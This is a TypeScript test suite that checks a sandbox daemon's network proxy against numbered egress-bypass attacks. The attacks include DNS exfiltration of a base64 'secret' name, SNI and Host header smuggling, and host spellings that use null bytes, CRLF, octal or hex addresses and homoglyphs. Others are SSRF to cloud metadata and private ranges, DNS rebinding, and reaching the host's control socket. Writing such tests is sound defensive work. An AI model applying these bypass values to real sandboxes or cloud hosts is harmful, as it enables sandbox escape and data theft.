import { beforeAll, describe, expect, test } from "vitest";
import type { Sandbox } from "../../packages/sandbox/src/sandbox.ts";
import { publishedPort } from "../../packages/sandboxd/src/api.ts";
import { sandboxdPaths } from "../../packages/sandboxd/src/paths.ts";
import { networkSettings } from "../../packages/schema/src/network.ts";
import { attack } from "../setup/attack.ts";
import { ended } from "../setup/command-line.ts";
import { curl, curlEach } from "../setup/curl.ts";
import { type Place, placeOf } from "../setup/place.ts";
import type { PlainContainer } from "../setup/plain-container.ts";
import { newSandbox } from "../setup/sandbox.ts";
import type { OnlineInstance } from "../setup/sandboxd.ts";
import {
  addresses,
  canHaveSmallInternet,
  machineAddress,
  type SmallInternet,
} from "../setup/small-internet.ts";
import { temporaryWorkspace } from "../setup/temporary-workspace.ts";
import { until } from "../setup/until.ts";
import { closedRanges, tunnels } from "./network-details.ts";
import { networkScene, serving } from "./network-scene.ts";

/** What the attack reports of a tunnel: what the proxy said to it, and what came through. */
interface Tunnelled {
  status: string;
  through: string | null;
}

describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network policy", () => {
  let internet: SmallInternet;
  let instance: OnlineInstance;
  let plain: PlainContainer;
  let neighbour: PlainContainer;
  let sandbox: Sandbox;
  let allowing: Place;
  let denying: Place;

  beforeAll(async () => {
    ({ internet, instance, plain, neighbour, sandbox, allowing, denying } = await networkScene());
  });

  test("B11 what is allowed is reached, by proxy and by name, over HTTP and HTTPS", async () => {
    for (const words of [["http://github.com/"], ["https://github.com/"]]) {
      for (const way of [[], ["--noproxy", "*"]]) {
        const fetched = await curl(denying, ...way, ...words);
        expect(fetched).toEqual({ status: 200, body: `reached ${addresses.public}` });
      }
    }
  });

  test("B11 what is not is a 403 that names host, rule and the command that allows it", async () => {
    const { status, body } = await curl(denying, "http://public.test/");
    expect(status).toBe(403);
    for (const words of ["public.test", "policy deny", "network proxy denying --allow-host public.test:80"]) {
      expect(body).toContain(words);
    }
    expect((await curl(denying, "--noproxy", "*", "http://public.test/")).status).toBe(403);
    expect((await curl(denying, "--noproxy", "*", "https://public.test/")).status).toBe(0);
  });

  describe("attack 13 14 18 goes around the proxy", () => {
    const goal = JSON.stringify({ ...addresses, name: "c2VjcmV0.leak.test" });

    test("a plain container sends to addresses, asks any resolver, and uses UDP, ICMP, raw sockets and IPv6", async () => {
      const report = await attack<Record<string, string>>(plain, "network.py", goal);
      const { raw } = await attack<Record<string, string>>(neighbour, "network.py", goal);
      for (const [way, outcome] of Object.entries({ ...report, raw })) {
        expect(`${way} ${outcome}`).toMatch(/answered \d+ bytes/);
      }
      expect(internet.seen.some(({ kind, name }) => kind === "dns" && name === "c2vjcmv0.leak.test")).toBe(
        true,
      );
    });

    test.each(["allowing", "denying"])("and gets nowhere: %s", async (which) => {
      const before = internet.seen.length;
      const report = await attack<Record<string, string>>(
        which === "allowing" ? allowing : denying,
        "network.py",
        goal,
      );
      for (const outcome of Object.values(report)) expect(outcome).toMatch(/^error/);
      expect(internet.seen.slice(before)).toEqual([]);
    });

    test("no name that is asked for inside reaches a resolver, unless it is allowed", async () => {
      const before = internet.seen.length;
      const { stdout } = await denying.run(["getent", "hosts", "c2VjcmV0.leak.test"]);
      expect(stdout).toMatch(/^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\./);
      await curl(denying, "http://c2VjcmV0.leak.test/");
      expect(internet.seen.slice(before)).toEqual([]);
    });

    test("a resolver behind HTTPS or TLS is a host like any other", async () => {
      const question = "https://other.test/dns-query?dns=c2VjcmV0";
      const tls = JSON.stringify([{ target: "other.test:853", name: "other.test" }]);
      expect((await curl(plain, question)).status).toBe(200);
      const before = internet.seen.length;
      for (const way of [[], ["--noproxy", "*"]])
        expect((await curl(denying, ...way, question)).status).toBe(0);
      const [stopped] = await attack<Tunnelled[]>(denying, "tunnel.py", tls);
      expect(stopped?.status).toContain(" 403 ");
      expect(internet.seen.slice(before)).toEqual([]);
    });
  });

  describe("attack 15 hides another host behind an allowed one", () => {
    const lines = JSON.stringify([
      { target: "github.com:443", name: "github.com" },
      { target: "github.com:443", name: "other.test" },
      { target: "github.com:443" },
      { target: `${addresses.public}:443`, name: "github.com" },
      { target: "github.com:80", raw: "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n" },
      { target: "github.com:9000", raw: "SSH-2.0-smuggler\r\n" },
    ]);

    test("a plain container has nothing that would stop it", async () => {
      const reports = await attack<Tunnelled[]>(plain, "tunnel.py", lines, addresses.public);
      expect(reports.map(({ through }) => through)).toEqual([
        ...Array.from({ length: 4 }, () => expect.stringMatching(/^answered [1-9]/) as string),
        "answered HTTP/1.1 200 OK",
        "answered SSH-2.0-smuggler",
      ]);
    });

    test("in ours the name of the TLS hello must be the one that was allowed, and there must be one", async () => {
      const before = internet.seen.length;
      const reports = await attack<Tunnelled[]>(denying, "tunnel.py", lines);
      expect(reports.map(({ through }) => through)).toEqual([
        expect.stringMatching(/^answered [1-9]/),
        "error: SSLError",
        "error: SSLError",
        null,
        "answered HTTP/1.1 403 Forbidden",
        "ended",
      ]);
      const tunnelled = internet.seen.slice(before).filter(({ kind }) => !kind.startsWith("dns"));
      expect(tunnelled.map(({ kind, sni }) => [kind, sni])).toEqual([["https", "github.com"]]);
    });

    test("a Host header that is not the host that was asked for is refused", async () => {
      const { status } = await curl(denying, "--header", "Host: other.test", "http://github.com/");
      expect(status).toBeGreaterThanOrEqual(400);
      expect(
        (await curl(denying, "--noproxy", "*", "--header", "Host: other.test", "http://github.com/")).status,
      ).toBe(403);
    });
  });

  describe("attack 16 spells a host in another way", () => {
    const odd = [
      "evilgithub.com:443",
      "github.com.evilgithub.com:443",
      "github.com\0.evilgithub.com:443",
      "github.com%00.other.test:443",
      "github.com\r\n.other.test:443",
      "github.com:443\r\nHost: other.test:443",
      "github.com@other.test:443",
      "[::ffff:203.0.113.10]:443",
      "3405803786:443",
      "0313.0.0161.012:443",
      "0xcb.0.0x71.0xa:443",
      "203.0.28938:443",
      "xn--gthub-n4a.com:443",
      "gíthub.com:443",
    ];

    test("numbers in other bases are addresses for a plain container", async () => {
      for (const host of ["3405803786", "0313.0.0161.012", "0xcb.0.0x71.0xa"]) {
        expect((await curl(plain, `http://${host}/`)).status).toBe(200);
      }
    });

    test("in ours none of them is taken for the allowed one", async () => {
      const before = internet.seen.length;
      const doors = [false, true].flatMap((socks) =>
        odd.map((target) => ({ target, socks, name: "github.com" })),
      );
      const reports = await attack<Tunnelled[]>(denying, "tunnel.py", JSON.stringify(doors));
      for (const [index, { status }] of reports.entries()) {
        expect(`${JSON.stringify(doors[index])}: ${status}`).not.toMatch(/ 200 /);
      }
      expect(internet.seen.slice(before)).toEqual([]);
    });

    test("upper case and a final dot are the same host", async () => {
      for (const host of ["GitHub.com", "github.com."]) {
        expect(await curl(denying, `http://${host}/`)).toMatchObject({ status: 200 });
      }
    });
  });

  describe("attack 17 is led to an address that is not public", () => {
    const inner = [`http://${addresses.metadata}/`, `http://${addresses.private}/`, "http://inner.test/"];
    const toMachine = "http://public.test/?redirect=http://host.docker.internal:7778/";

    test("a plain container goes there, also by a redirect", async () => {
      for (const url of inner)
        expect({ url, ...(await curl(plain, url)) }).toMatchObject({ url, status: 200 });
      const redirect = `http://public.test/?redirect=http://${addresses.metadata}/`;
      expect((await curl(plain, "--location", redirect)).body).toBe(`reached ${addresses.metadata}`);
      expect((await curl(plain, "--location", toMachine)).body).toBe("the machine");
    });

    test("ours does not, whatever leads there", async () => {
      for (const url of [...inner, "http://127.0.0.1:9/", "http://198.51.100.2/", "http://[::1]:9/"]) {
        expect((await curl(allowing, "--noproxy", "", url)).status).toBe(403);
      }
      const redirect = `http://public.test/?redirect=http://${addresses.metadata}/`;
      expect((await curl(allowing, "--location", redirect)).status).toBe(403);
      expect((await curl(allowing, "--location", toMachine)).body).not.toContain("the machine");
    });

    test("a name that changes between check and connect leads a plain container there", async () => {
      const [checked, ...connected] = await curlEach(plain, repeated("http://rebind-plain.test/"));
      expect(checked?.body).toBe(`reached ${addresses.public}`);
      expect(connected.at(-1)?.body).toBe(`reached ${addresses.metadata}`);
    });

    test("in ours it is connected to what was checked", async () => {
      const fetched = await curlEach(allowing, repeated("http://rebind.test/"));
      const reached = fetched.map(({ body }) => body);
      expect(reached[0]).toBe(`reached ${addresses.public}`);
      expect(reached.join()).not.toContain(addresses.metadata);
    });
  });

  describe("attack 19 reaches for the machine that it runs on, and for other sandboxes", () => {
    const machine = ["localhost", "127.0.0.1", machineAddress];

    test("a plain container reaches the server of another one, and what listens on the machine", async () => {
      for (const [host, said] of [
        [neighbour.name, "the neighbour"],
        ["host.docker.internal", "the machine"],
        [machineAddress, "the machine"],
      ]) {
        expect((await curl(plain, `http://${host}:7777/`)).body).toBe(said);
      }
    });

    test("what listens on the machine's loopback, and on its own address, is out of reach until it is declared", async () => {
      const urls = ["host.docker.internal", ...machine].map((host) => `http://${host}:7777/`);
      await expectUnreached(allowing, urls, "the machine");
      await instance.sandboxd.ask(
        { method: "POST", path: "/sandboxes/allowing/host-ports", body: { ports: [7777] } },
        networkSettings,
      );
      expect((await curl(allowing, "http://host.docker.internal:7777/")).body).toBe("the machine");
      expect((await curl(denying, "http://host.docker.internal:7777/")).status).not.toBe(200);
    });

    test("a port that another sandbox has published is the machine's, and no other sandbox's", async () => {
      (await sandbox.exec(["node", "-e", serving("the neighbour", 7779)])).detach();
      const path = "/sandboxes/allowing/ports";
      const published = await until("it is served", async () => {
        const { published: port } = await instance.sandboxd.ask(
          { method: "POST", path, body: { inside: 7779 } },
          publishedPort,
        );
        const said = await onMachine("curl", "--silent", `http://127.0.0.1:${port}/`);
        return said.includes("the neighbour") ? port : undefined;
      });
      const urls = ["host.docker.internal", ...machine].flatMap((host) =>
        [published, 7779].map((port) => `http://${host}:${port}/`),
      );
      await expectUnreached(denying, urls, "the neighbour");
    });

    test("sandboxd's control is not behind its doors, and its socket is not inside", async () => {
      const { socket } = sandboxdPaths(instance.home);
      const control = ["--unix-socket", socket, "http://sandboxd/status"];
      expect(await onMachine("curl", "--silent", ...control)).toContain('"protocol"');
      expect((await curl(allowing, ...control)).status).toBe(0);
      const doors = [3128, 3129].map((port) => `http://127.0.0.1:${port}/status`);
      await expectUnreached(allowing, doors, '"protocol"');
    });

    async function expectUnreached(place: Place, urls: readonly string[], said: string): Promise<void> {
      for (const proxies of ["localhost", "", "*"]) {
        const fetched = await curlEach(place, urls, "--noproxy", proxies);
        for (const [index, { body }] of fetched.entries())
          expect(`${urls[index]}: ${body}`).not.toContain(said);
        expect(fetched).toHaveLength(urls.length);
      }
    }

    async function onMachine(...command: [string, ...string[]]): Promise<string> {
      return (await ended(internet.machine(command))).stdout;
    }
  });

  describe("the details that decide", () => {
    let ruled: Place;

    beforeAll(async () => {
      await internet.addAddresses(Object.values(closedRanges), plain.name);
      const exact = [
        "exact.test",
        "link.test",
        addresses.metadata,
        addresses.private,
        ...Object.values(closedRanges),
      ];
      const ports = ["github.com:443", "github.com:2525", "github.com:9000"];
      const network = { policy: "deny" as const, allowHosts: ["*.wild.test", ...exact, ...ports] };
      ruled = placeOf(await newSandbox(instance, temporaryWorkspace(), { name: "ruled", network }));
    });

    test("attack 17 of the ranges that are not public a plain container reaches each; ours where a rule names the address", async () => {
      // The last is a private address in the clothes of IPv6.
      const rows = [...Object.entries(closedRanges), ["10.0.0.0/8", "::ffff:10.77.0.1"] as const];
      const urls = rows.map(([, address]) => `http://${address.includes(":") ? `[${address}]` : address}/`);
      const reached = rows.map(([, address]) => ({
        status: 200,
        body: `reached ${address.replace("::ffff:", "")}`,
      }));
      expect(await curlEach(plain, urls)).toEqual(reached);
      expect(await curlEach(ruled, urls, "--noproxy", "")).toEqual(reached);
      const before = internet.seen.length;
      const stopped = await curlEach(allowing, [...urls, "http://[ff0e::7]/"], "--noproxy", "");
      expect(stopped).toEqual(
        [...rows, ["ff00::/8"]].map(([range]) => ({
          status: 403,
          body: expect.stringContaining(`private range ${range}\n`) as string,
        })),
      );
      expect(internet.seen.slice(before)).toEqual([]);
    });

    test("attack 17 a wildcard does not open a private address, and nothing opens a link-local one", async () => {
      const urls = ["exact.test", "a.wild.test", "link.test", addresses.metadata].map(
        (host) => `http://${host}/`,
      );
      for (const { status } of await curlEach(plain, urls)) expect(status).toBe(200);
      const said = (status: number, words: string) => ({
        status,
        body: expect.stringContaining(words) as string,
      });
      expect(await curlEach(ruled, urls, "--noproxy", "")).toEqual([
        said(200, `reached ${addresses.private}`),
        said(403, "private range 10.0.0.0/8"),
        said(403, "never 169.254.0.0/16"),
        said(403, "never 169.254.0.0/16"),
      ]);
    });

    test("attack 15 what names no server, or hides it, passes where a rule names host and port; another name never", async () => {
      const lines = JSON.stringify(tunnels.map(([, line]) => line));
      const came = async (place: Place, ...directly: string[]): Promise<(string | null)[]> => {
        const reports = await attack<Tunnelled[]>(place, "tunnel.py", lines, ...directly);
        return reports.map(({ through }) => through);
      };
      const [free, byHost, byPort] = [
        await came(plain, addresses.public),
        await came(denying),
        await came(ruled),
      ];
      const rows = tunnels.map(([what], index) => [what, free[index], byHost[index], byPort[index]]);
      expect(rows).toEqual(tunnels.map(([what, , ...expected]) => [what, ...expected]));
    });
  });

  test("attack 20 an empty list under deny is nothing, not everything", async () => {
    const empty = placeOf(
      await newSandbox(instance, temporaryWorkspace(), { name: "empty", network: { policy: "deny" } }),
    );
    expect((await curl(plain, "http://github.com/")).status).toBe(200);
    expect((await curl(empty, "http://github.com/")).status).toBe(403);
    expect((await curl(empty, "--noproxy", "*", "https://github.com/")).status).toBe(0);
  });

  test("attack 21 without sandboxd there is no network, and with the next one it is back", async () => {
    const before = internet.seen.length;
    await instance.killSandboxd();
    expect((await curl(allowing, "http://public.test/")).status).toBe(503);
    expect((await curl(allowing, "--noproxy", "*", "http://public.test/")).status).toBe(0);
    expect(internet.seen.slice(before)).toEqual([]);
    expect((await curl(plain, "http://public.test/")).status).toBe(200);
    await instance.startSandboxd();
    await until(
      "the network is back",
      async () => (await curl(allowing, "http://public.test/")).status === 200,
    );
  });
});

function repeated(url: string): string[] {
  return Array.from({ length: 4 }, () => url);
}
